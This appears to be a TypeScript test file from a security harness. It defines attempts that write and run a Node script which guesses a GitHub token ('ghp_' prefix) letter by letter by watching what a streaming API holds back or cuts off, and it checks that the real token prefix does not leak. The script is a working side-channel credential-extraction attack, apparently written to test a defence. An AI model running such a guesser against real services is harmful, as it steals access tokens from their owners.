import type { Attempt } from './attempt.ts';

/** Of a value that begins with `ghp_` and goes on in small letters and digits, so many letters are tried. */
const LETTERS = 5;

/**
 * A program that guesses a value letter by letter. The host repeats a guess, waits, and ends its answer; a guess of which
 * something is missing before the end was held back.
 */
const GUESSER = `
const [api, alphabet, letters, patience] = process.argv.slice(2);
const isHeld = async (guess) => {
  const leaving = new AbortController();
  let before = '';
  try {
    const response = await fetch('https://' + api + '/guess?' + guess, { signal: leaving.signal });
    if (patience !== 'to the end') setTimeout(() => leaving.abort(), 400);
    for await (const piece of response.body) {
      const text = Buffer.from(piece).toString();
      if (text.includes('.')) break;
      before += text;
    }
  } catch {}
  return before !== guess;
};
let known = 'ghp_';
for (let count = 0; count < letters; count++) {
  const held = await Promise.all([...alphabet].map((letter) => isHeld(known + letter)));
  const right = [...alphabet].filter((_, index) => held[index]);
  console.log(known, 'is followed by', right.join(' or ') || 'none');
  known += right.length === 1 ? right[0] : alphabet[Math.floor(Math.random() * alphabet.length)];
}
console.log('guessed', known);
`;

/** Attempts to learn from when something comes back what it was compared with. */
export const GUESSING: Attempt[] = [
  guess('by what comes only with the end', 'to the end'),
  guess('by what has not come when it leaves', 'for a moment'),
];

function guess(name: string, patience: string): Attempt {
  return {
    name: `the value letter by letter, ${name}`,
    command: ({ api }) =>
      `cat > guess.mjs <<'END'\n${GUESSER}\nEND\nnode guess.mjs ${api} 0123456789abcdef ${LETTERS} '${patience}'`,
    answers: /guessed ghp_/,
    mustNotShow: ({ value }) => value.slice(0, 'ghp_'.length + LETTERS),
  };
}
